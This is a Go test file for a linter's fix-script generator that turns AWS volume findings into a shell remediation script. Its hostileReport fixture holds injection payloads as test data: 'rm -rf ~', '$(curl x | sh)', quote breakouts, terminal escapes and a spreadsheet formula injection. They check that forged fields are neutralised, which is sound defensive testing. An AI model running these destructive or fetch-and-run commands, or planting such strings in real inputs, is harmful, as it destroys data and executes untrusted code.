package fix

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	diff "github.com/google/go-cmp/cmp"
	"github.com/patlint/patlint/lint"
	"github.com/patlint/patlint/lint/report"
)

// fixReport is a report of failed findings of one account, one for each fix.
func fixReport(fixes ...string) *lint.Report {
	r := &lint.Report{Version: "0.1.0", Finished: time.Date(2026, 1, 31, 8, 0, 1, 0, time.UTC)}
	for i, text := range fixes {
		r.Findings = append(r.Findings, lint.Finding{Pattern: "keep-x", Severity: "high", Verdict: "fail", Message: "m", Fix: text,
			Resource: lint.Resource{Kind: "volume", ID: fmt.Sprintf("vol-%d", i), Account: "111122223333", Region: "us-east-1"}})
	}
	return r
}

func scriptOf(t testing.TB, r *lint.Report) string {
	t.Helper()
	var b bytes.Buffer
	if err := Script(&b, r, Options{}); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

const hereRegion = " --region us-east-1"

// TestFixOnce: AWS takes one change of a volume in hours, so that the second of two findings would end the script.
func TestFixOnce(t *testing.T) {
	modify := "aws ec2 modify-volume --volume-type gp3 --volume-id "
	r := fixReport(modify+"vol-1"+hereRegion, modify+"vol-2"+hereRegion, modify+"vol-1"+hereRegion, "sudo x\n"+modify+"vol-3"+hereRegion, modify+"vol-3"+hereRegion)
	for i, id := range []string{"vol-1", "vol-2", "vol-1", "vol-3", "vol-3"} {
		r.Findings[i].Resource.ID = id
	}
	out := scriptOf(t, r)
	if n := strings.Count(out, "\naws ec2 modify-volume"); n != 3 || !strings.Contains(out, "# does not run: finding 1 changes vol-1 already") {
		t.Errorf("%d changes run:\n%s", n, out)
	}
	r.Findings[2].Resource.Account = "444455556666"
	if out := scriptOf(t, r); strings.Count(out, "\naws ec2 modify-volume") != 4 {
		t.Errorf("another account has the same ID:\n%s", out)
	}
}

// TestFixBatches: the order is account, region, severity, pattern; what does not fit into memory together comes in several walks.
func TestFixBatches(t *testing.T) {
	r := &lint.Report{}
	for i := range 3 * fixBatch {
		r.Findings = append(r.Findings, lint.Finding{Pattern: "keep-x", Severity: "high", Verdict: "fail",
			Resource: lint.Resource{ID: fmt.Sprint(i), Account: fmt.Sprint(i % 7 % 4), Region: fmt.Sprint("r", i%3)}})
	}
	p, err := planFix(lint.Merge(r), Options{Chosen: func(f *lint.Finding) bool { return f.Resource.ID != "7" }})
	if err != nil {
		t.Fatal(err)
	}
	var order []string
	n := 0
	if err := p.batches(lint.Merge(r), func(g fixGroup, found []*lint.Finding) {
		order = append(order, g.account+g.region)
		n += len(found)
		if len(found) != g.n || groupOf(found[0]) != groupOf(found[len(found)-1]) {
			t.Errorf("%+v holds %d", g, len(found))
		}
	}); err != nil {
		t.Fatal(err)
	}
	if n != 3*fixBatch-1 || !slices.IsSorted(order) || len(order) != 12 {
		t.Errorf("%d findings in %s", n, order)
	}
}

// TestFixFails: what cannot be read or written is an error, and no half script counts as one.
func TestFixFails(t *testing.T) {
	if err := Script(fullDisk{}, fixReport("true"), Options{}); err == nil {
		t.Error("a full disk is no error")
	}
}

type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, errors.New("full") }

// hostileReport is one that somebody forged, on accounts that somebody hostile named.
func hostileReport() *lint.Report {
	names := []string{
		"x\x1b]0;t\x07\n\nrm -rf ~\n#", "=cmd()|'/c calc'!A1", "<script>alert(1)</script>", "$(rm -rf /)", "`id`", "'; rm -rf ~; '", `"; rm -rf ~; "`,
		"x\r\nrm -rf ~", "\u202egnp.exe", strings.Repeat("long ", 10_000), `back\`, "nul\x00", "# not\n a comment", "!!",
	}
	fixes := []string{
		"aws ec2 create-snapshot --region us-east-1 --volume-id vol-0 --description 'a $(rm -rf ~) `id` \"; rm -rf ~; \\'", // runs: it is one quoted word
		"rm -rf ~",
		"aws ec2 run-instances --region us-east-1 --image-id ami-1\naws ec2 create-snapshot --region us-east-1 --volume-id vol-never",
		"aws() { :; }\naws ec2 describe-volumes --region us-east-1",
		"aws ec2 describe-volumes --region us-east-1 --volume-ids $(curl x | sh)",
		"aws ec2 describe-volumes --region us-east-1 --volume-ids ${x:-$(id)}",
		"aws ec2 describe-volumes --region us-east-1 --volume-ids <(id)",
		"cat > file <<END\nrm -rf ~\nEND\necho 'after'",
		"aws ec2 describe-volumes --region us-east-1 \\",
		"echo 'unbalanced",
		"echo nul \x00; rm -rf ~",
		"aws ec2 describe-volumes --region us-east-1 \\\r\nrm -rf ~",
		"# a comment\naws ec2 describe-volumes --region us-east-1 # and one more\nfi; rm -rf ~; if true; then",
		strings.Repeat("$(", 50_000),
		"aws ec2 describe-volumes --region us-east-1 --volume-ids # \\\nrm -rf ~",
		"aws ec2 create-snapshot --region us-east-1 --volume-id vol-15 --description \"it's = 'all' <script>\"\n\n# fine\nsudo rm -rf /",
	}
	r := fixReport(fixes...)
	for i := range r.Findings {
		f := &r.Findings[i]
		f.Resource.Name, f.Message, f.URL = names[i%len(names)], "message "+names[(i+1)%len(names)], "https://example.com/"+names[(i+2)%len(names)]
	}
	r.Version = "0.1.0\nrm -rf ~"
	r.Summary.Unknown = 5
	r.Scopes = []lint.Scope{{Account: "444455556666", Read: r.Finished}, {Account: "111122223333", Read: r.Finished.Add(-48 * time.Hour)}, {Account: "000000000000"}}
	r.Gaps = []lint.Missing{{Action: "ec2:DescribeVolumes", Patterns: []string{"keep-y"}}, {Action: "ec2:DescribeTags"}}
	one := func(verdict, account, region, id, fix string) {
		r.Findings = append(r.Findings, lint.Finding{Pattern: "keep-y\nrm -rf ~", Severity: "low\nrm -rf ~", Verdict: verdict, Fix: fix, Resource: lint.Resource{ID: id, Account: account, Region: region}})
	}
	one("muted", "111122223333", "us-east-1", "vol-m", "aws ec2 create-snapshot --region us-east-1 --volume-id vol-muted")
	one("unknown", "111122223333", "us-east-1", "vol-u", "aws ec2 create-snapshot --region us-east-1 --volume-id vol-unknown")
	one("fail", "111122223333", "eu-west-1\nrm -rf ~", "vol-e", "aws ec2 create-snapshot --region 'eu-west-1\nrm -rf ~' --volume-id vol-e")
	one("fail", "444455556666", "us-east-1", "vol-4", "aws ec2 create-snapshot --region us-east-1 --volume-id vol-4")
	one("fail", "1111'; rm -rf ~; '", "us-east-1", "vol-5", "aws ec2 create-snapshot --region us-east-1 --volume-id vol-5")
	one("fail", "111122223333", "us-east-1", "vol-6", "")
	return lint.Merge(r)
}

func TestFixGolden(t *testing.T) {
	got := scriptOf(t, hostileReport())
	for i, r := range got {
		if r != '\n' && report.Clean(string(r)) != string(r) {
			t.Errorf("character %U at %d: %q", r, i, got[max(0, i-20):min(len(got), i+20)])
		}
	}
	const file = "testdata/fix.sh"
	if os.Getenv("UPDATE") != "" {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if d := diff.Diff(string(want), got); d != "" {
		t.Errorf("(-want +got; UPDATE=1 rewrites it):\n%s", d)
	}
}

// TestFixAge: what was read long ago is mended only by somebody who says so.
func TestFixAge(t *testing.T) {
	const day = 24 * time.Hour
	modify := "aws ec2 modify-volume --volume-type gp3 --volume-id vol-0" + hereRegion + "\naws ec2 describe-volumes" + hereRegion
	read := time.Date(2026, 1, 1, 9, 0, 0, 0, time.UTC)
	for _, test := range []struct {
		name     string
		scopes   []lint.Scope
		finished time.Time
		o        Options
		runs     bool
		says     string
		warns    bool
	}{
		{"just now", []lint.Scope{{Read: read}}, read, Options{Now: read.Add(day)}, true, "# The account was read at 2026-01-01 09:00 UTC.\n", false},
		{"yesterday", []lint.Scope{{Read: read}}, read, Options{Now: read.Add(day + 1)}, true, "# The account was read at 2026-01-01 09:00 UTC.\n", true},
		{"a week", []lint.Scope{{Read: read}}, read, Options{Now: read.Add(7 * day)}, true, "09:00", true},
		{"longer", []lint.Scope{{Read: read}}, read, Options{Now: read.Add(7*day + 1)}, false, "# does not run: the account was read more than 7 days before", true},
		{"longer, and said so", []lint.Scope{{Read: read}}, read, Options{Now: read.Add(70 * day), Stale: true}, true, "09:00", true},
		{"an old snapshot", []lint.Scope{{Read: read}}, read.Add(8 * day), Options{}, false, "from a report of 2026-01-09 09:00 UTC", true},
		{"one of two", []lint.Scope{{Read: read.Add(8 * day)}, {}, {Read: read}}, read.Add(8 * day), Options{}, false, "read first was read at 2026-01-01", true},
		{"an earlier version", nil, read, Options{Now: read.Add(8 * day)}, false, "The account was read at 2026-01-01", true},
		{"nothing tells", nil, time.Time{}, Options{Now: read}, false, "# does not run: nothing says when the account was read", true},
	} {
		r := fixReport(modify)
		r.Scopes, r.Finished = test.scopes, test.finished
		var b bytes.Buffer
		if err := Script(&b, r, test.o); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		if strings.Contains(out, "\naws ec2 modify-volume") != test.runs || strings.Contains(out, "\naws ec2 describe-volumes") != test.runs ||
			!strings.Contains(out, test.says) || strings.Contains(out, "things may have changed since") != test.warns {
			t.Errorf("%s:\n%s", test.name, out)
		}
	}
}
